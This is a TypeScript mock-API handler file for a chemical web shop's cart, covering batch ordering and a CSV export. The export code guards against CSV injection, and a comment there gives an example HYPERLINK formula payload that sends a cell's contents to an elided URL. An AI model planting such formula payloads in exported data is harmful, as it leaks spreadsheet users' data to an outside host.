/**
 * The cart: keyed by matlId per account owner (a sub-account has its own
 * cart), enriched with the material's summary on every read.
 */
import { http, HttpResponse } from 'msw';
import { db } from '../db/index.ts';
import type { CartRecord, Material, MemberRecord } from '../db/types.ts';
import { materialSafety } from '../hazard-data.ts';
import { imagePath } from '../images.ts';
import { accountOwnerId, Answer, api, type Body, fail, field, nowIso, ok, readJson, refuse, withMember } from '../lib.ts';
import { cartLineCompliance } from '../qualification-data.ts';
import { stockStatus } from '../../src/shared/lib/stock-status.ts';
import { isCasShaped, sameCatalogueNo } from '../../src/shared/lib/catalogue-number.ts';
import { materialsNamedBy } from '../search-rank.ts';
import { MALL_CODE, MALL_COUNTS, MALL_LIMITS } from '../facts.gen.ts';
import { round2 } from '../rmb.ts';
import { termsField, unitPriceFor } from '../price-terms.ts';

export const CART_MAX_LINES = MALL_COUNTS.cartLines;
export const CART_MAX_QUANTITY = MALL_LIMITS.Quantity.maximum;

function cartOf(member: MemberRecord): CartRecord[] {
  return db.state.carts.filter((c) => c.memberId === member._id);
}

/**
 * The material's fields of a cart line (docs/api.md §4 `CartLine`), from the catalogue as it is now: the one builder
 * of them, also for a buying list's line (§23). A material gone from the catalogue reads 已下架.
 */
export function cartLineMaterial(m: Material | undefined) {
  return {
    catalogNo: m?.catalogNo ?? '',
    name: m?.name ?? '已下架商品',
    nameEn: m?.nameEn ?? '',
    image: m ? imagePath('material', m._id) : '',
    spec: m?.spec ?? '',
    unit: m?.unit ?? '',
    price: m?.price ?? 0,
    stock: m?.stock ?? 0,
    leadDays: m?.leadDays ?? 0,
    mfrId: m?.mfrId ?? '',
    mfrName: m?.mfrName ?? '',
    shipping: m?.shipping ?? '',
    ...materialSafety(m),
    // 已下架, or 缺货 with no lead time: kept in the cart, not selectable, not ordered
    available: Boolean(m && !m.offShelf && stockStatus(m).orderable),
    // which of the two: a discontinued item (or one gone from the catalogue) reads 已下架, not 缺货
    offShelf: !m || m.offShelf,
  };
}

function cartView(member: MemberRecord) {
  const owner = accountOwnerId(member);
  const list = cartOf(member)
    .slice()
    .sort((a, b) => b.addedAt.localeCompare(a.addedAt))
    .map((line) => {
      const material = cartLineMaterial(db.state.materials.find((x) => x._id === line.matlId));
      // the company's terms (docs/api.md §5): the unit price for this quantity
      const terms = termsField(owner, line.matlId);
      return {
        matlId: line.matlId,
        quantity: line.quantity,
        selected: line.selected,
        addedAt: line.addedAt,
        ...material,
        ...terms,
        unitPrice: unitPriceFor(material.price, terms.terms, line.quantity),
        // controlled chemicals (docs/api.md §21): whether the account's qualifications cover the line
        compliance: cartLineCompliance(member, line.matlId, line.quantity),
      };
    });
  const selected = list.filter((l) => l.selected && l.available);
  return {
    itemCounts: list.length,
    list,
    selectedCount: selected.length,
    selectedAmount: round2(selected.reduce((sum, l) => sum + l.unitPrice * l.quantity, 0)),
  };
}

/**
 * A text that a spreadsheet would read as a formula (OWASP "CSV Injection"): one starting with
 * `=`, `+`, `-`, `@`, a tab or a carriage return, also after leading spaces or as the full-width
 * sign an IME types (`＝＋－＠`). A material name such as `=HYPERLINK("https://…?"&A1,"点此")` would
 * otherwise run when the exported cart is opened in Excel or WPS.
 */
const FORMULA_START = /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

/**
 * One cell of the cart export (docs/api.md §4): a formula-like text gets a leading `'` so that it is
 * shown as text; every cell is quoted and its quotes doubled, so no comma, quote or line break in a
 * value can start another cell.
 */
function csvCell(value: string): string {
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return `"${text.replace(/"/g, '""')}"`;
}

// ---------------------------------------------------------------- batches (quick order, reorder, buying lists)

/** The lines of a batch, or 400 (the texts of `{v1}/carts/batch`, also a buying list's import, docs/api.md §23). */
export function batchLines(body: Body): unknown[] {
  const raw = body.lines;
  if (!Array.isArray(raw) || raw.length === 0) throw new Answer(fail(400, '请至少填写一行货号和数量'));
  if (raw.length > CART_MAX_LINES) throw new Answer(fail(400, `一次最多 ${CART_MAX_LINES} 行`));
  return raw;
}

/**
 * One line's report (docs/api.md §4 `BatchResult`): `material` is what the line names (null: no such catalogue
 * number). ok: 现货 or 期货; unavailable: 缺货 without a lead time; offShelf; unknown; badQuantity.
 */
export function batchResult(index: number, catalogNo: string, quantity: unknown, material: Material | undefined) {
  const base = { index, catalogNo, quantity: typeof quantity === 'number' ? quantity : 0 };
  if (typeof quantity !== 'number' || !Number.isInteger(quantity) || quantity < 1 || quantity > CART_MAX_QUANTITY) {
    return { ...base, status: 'badQuantity' as const, message: `数量应为 1–${CART_MAX_QUANTITY} 的整数` };
  }
  if (!material) return { ...base, status: 'unknown' as const, message: '货号不存在' };
  const summary = {
    matlId: material._id,
    catalogNo: material.catalogNo,
    name: material.name,
    spec: material.spec,
    mfrName: material.mfrName,
    price: material.price,
    stock: material.stock,
    leadDays: material.leadDays,
    unit: material.unit,
    ...materialSafety(material),
  };
  if (material.offShelf) return { ...base, ...summary, status: 'offShelf' as const, message: '已下架' };
  const stock = stockStatus(material);
  if (!stock.orderable) return { ...base, ...summary, status: 'unavailable' as const, message: '缺货，暂无货期，无法加入购物车' };
  return { ...base, ...summary, status: 'ok' as const, message: stock.kind === 'inStock' ? '现货' : `期货，约 ${stock.leadDays} 个工作日发货` };
}

type BatchReport = ReturnType<typeof batchResult>;
export type BatchResult = BatchReport | ReturnType<typeof chooseResult>;

const MAX_CANDIDATES = 20;

/** docs/api.md §4: a CAS number or name naming several sizes: the user picks one (orderable first, then sales). */
function chooseResult(index: number, catalogNo: string, quantity: number, found: readonly Material[]) {
  const candidates = found
    .slice()
    .sort((a, b) => Number(stockStatus(b).orderable) - Number(stockStatus(a).orderable) || b.sales - a.sales || a.catalogNo.localeCompare(b.catalogNo))
    .slice(0, MAX_CANDIDATES)
    .map((m) => ({ matlId: m._id, catalogNo: m.catalogNo, name: m.name, spec: m.spec, mfrName: m.mfrName, price: m.price, stock: m.stock, leadDays: m.leadDays, unit: m.unit }));
  return { index, catalogNo, quantity, status: 'choose' as const, message: `找到 ${found.length} 个商品，请选择规格`, candidates };
}

/**
 * Lines of catalogue number + quantity, each reported with the material its catalogue number names. With
 * `byName` (quick order, docs/api.md §4), a line naming no catalogue number is read as a CAS number or exact name.
 */
export function batchResults(raw: readonly unknown[], { byName = false } = {}): BatchResult[] {
  return raw.map((entry, index) => {
    const line = (typeof entry === 'object' && entry !== null ? entry : {}) as { catalogNo?: unknown; quantity?: unknown };
    const catalogNo = typeof line.catalogNo === 'string' ? line.catalogNo.trim() : '';
    // matched as the catalogue search matches (src/shared/lib/catalogue-number.ts): G0005500G finds G0005-500G
    const material = catalogNo ? db.state.materials.find((m) => sameCatalogueNo(m.catalogNo, catalogNo)) : undefined;
    if (material || !byName || !catalogNo) return batchResult(index, catalogNo, line.quantity, material);
    const named = materialsNamedBy(db.state.materials, catalogNo);
    const report = batchResult(index, catalogNo, line.quantity, named.length === 1 ? named[0] : undefined);
    if (report.status === 'badQuantity' || named.length === 1) return report;
    if (named.length > 1) return chooseResult(index, catalogNo, report.quantity, named);
    return isCasShaped(catalogNo) ? { ...report, message: '未找到该 CAS 号或名称的商品' } : report;
  });
}

/**
 * A batch with `dryRun: false` (reorder, a buying list to the cart): the ok lines are added in one go, quantities
 * adding to existing lines; 10052 when none is ok, 10051 when the cart would exceed its size.
 */
export function addBatch(member: MemberRecord, results: BatchResult[]): Response {
  const good = results.filter((r): r is BatchReport & { status: 'ok' } => r.status === 'ok');
  if (good.length === 0) return refuse('没有可加入购物车的商品', MALL_CODE.nothingToAdd);
  const existing = new Set(cartOf(member).map((c) => c.matlId));
  const added = new Set(good.map((r) => r.matlId).filter((id) => !existing.has(id)));
  if (existing.size + added.size > CART_MAX_LINES) return refuse(`购物车最多 ${CART_MAX_LINES} 种商品，请先清理`, MALL_CODE.cartFull);
  for (const r of good) {
    const line = cartOf(member).find((c) => c.matlId === r.matlId);
    if (line) {
      line.quantity = Math.min(CART_MAX_QUANTITY, line.quantity + r.quantity);
      line.addedAt = nowIso();
    } else {
      db.state.carts.push({ memberId: member._id, matlId: r.matlId, quantity: r.quantity, selected: true, addedAt: nowIso() });
    }
  }
  return ok({ results, cart: cartView(member) });
}

export const cartHandlers = [
  http.get(api.v1('/carts'), withMember(({ member }) => ok(cartView(member)))),
  http.get(api.v2('/carts'), withMember(({ member }) => ok(cartView(member)))),

  http.post(
    api.v1('/carts'),
    withMember(async ({ request, member }) => {
      const body = await readJson(request);
      const matlId = field.string(body, 'matlId', '商品');
      const quantity = body.quantity === undefined ? 1 : field.int(body, 'quantity', '数量', { min: 1, max: CART_MAX_QUANTITY });
      const material = db.state.materials.find((m) => m._id === matlId);
      if (!material || material.offShelf) return refuse('该商品已下架或不存在', MALL_CODE.materialOffShelf);
      if (!stockStatus(material).orderable) return refuse('该商品暂时缺货，无法加入购物车', MALL_CODE.outOfStock);
      const line = cartOf(member).find((c) => c.matlId === matlId);
      if (line) {
        line.quantity = Math.min(CART_MAX_QUANTITY, line.quantity + quantity);
        line.addedAt = nowIso();
      } else {
        if (cartOf(member).length >= CART_MAX_LINES) return refuse(`购物车最多 ${CART_MAX_LINES} 种商品，请先清理`, MALL_CODE.cartFull);
        db.state.carts.push({ memberId: member._id, matlId, quantity, selected: true, addedAt: nowIso() });
      }
      return ok(cartView(member));
    }),
  ),

  http.delete(
    api.v1('/carts/:id'),
    withMember(({ params, member }) => {
      // One id, or several joined by commas (deleting the selection in one call).
      const ids = new Set(String(params.id).split(',').filter(Boolean));
      const mine = new Set(cartOf(member).map((c) => c.matlId));
      if (ids.size === 0 || [...ids].some((id) => !mine.has(id))) return fail(404, '购物车中没有该商品');
      db.state.carts = db.state.carts.filter((c) => !(c.memberId === member._id && ids.has(c.matlId)));
      return ok(cartView(member));
    }),
  ),

  http.put(
    api.v1('/carts/multi/selected'),
    withMember(async ({ request, member }) => {
      const body = await readJson(request);
      const selected = field.boolean(body, 'selected', 'selected');
      const ids = body.matlIds;
      if (ids !== 'all' && !(Array.isArray(ids) && ids.every((x) => typeof x === 'string'))) {
        return fail(400, 'matlIds 必须是商品编号数组或 "all"');
      }
      for (const line of cartOf(member)) if (ids === 'all' || ids.includes(line.matlId)) line.selected = selected;
      return ok(cartView(member));
    }),
  ),

  http.put(
    api.v1('/carts/:matlId/selected'),
    withMember(async ({ request, params, member }) => {
      const body = await readJson(request);
      const selected = field.boolean(body, 'selected', 'selected');
      const line = cartOf(member).find((c) => c.matlId === String(params.matlId));
      if (!line) return fail(404, '购物车中没有该商品');
      line.selected = selected;
      return ok(cartView(member));
    }),
  ),

  http.put(
    api.v1('/carts/:matlId/quantity'),
    withMember(async ({ request, params, member }) => {
      const body = await readJson(request);
      const quantity = field.int(body, 'quantity', '数量', { min: 1, max: CART_MAX_QUANTITY });
      const line = cartOf(member).find((c) => c.matlId === String(params.matlId));
      if (!line) return fail(404, '购物车中没有该商品');
      line.quantity = quantity;
      return ok(cartView(member));
    }),
  ),

  /**
   * Quick order and reorder: lines of catalogue number + quantity. Each line is
   * reported (ok, unknown, offShelf, unavailable, badQuantity); with `dryRun: false` the ok
   * lines are added in one go (quantities add to existing lines).
   */
  http.post(
    api.v1('/carts/batch'),
    withMember(async ({ request, member }) => {
      const body = await readJson(request);
      const raw = batchLines(body);
      // the company's terms on each line that names a material (docs/api.md §5)
      const owner = accountOwnerId(member);
      const results = batchResults(raw, { byName: true }).map((r) =>
        'matlId' in r && r.matlId
          ? { ...r, ...termsField(owner, r.matlId) }
          : r.status === 'choose'
            ? { ...r, candidates: r.candidates.map((c) => ({ ...c, ...termsField(owner, c.matlId) })) }
            : r,
      );
      return body.dryRun === false ? addBatch(member, results) : ok({ results, cart: null });
    }),
  ),

  http.get(
    api.v1('/carts/export'),
    withMember(({ member }) => {
      const rows = [['货号', '名称', '规格', '品牌', '单价(元)', '数量', '小计(元)']];
      for (const l of cartView(member).list) {
        rows.push([l.catalogNo, l.name, l.spec, l.mfrName, l.unitPrice.toFixed(2), String(l.quantity), round2(l.unitPrice * l.quantity).toFixed(2)]);
      }
      const csv = '\ufeff' + rows.map((r) => r.map(csvCell).join(',')).join('\r\n');
      return new HttpResponse(csv, {
        headers: { 'Content-Type': 'text/csv; charset=utf-8', 'Content-Disposition': 'attachment; filename="cart.csv"' },
      });
    }),
  ),
];
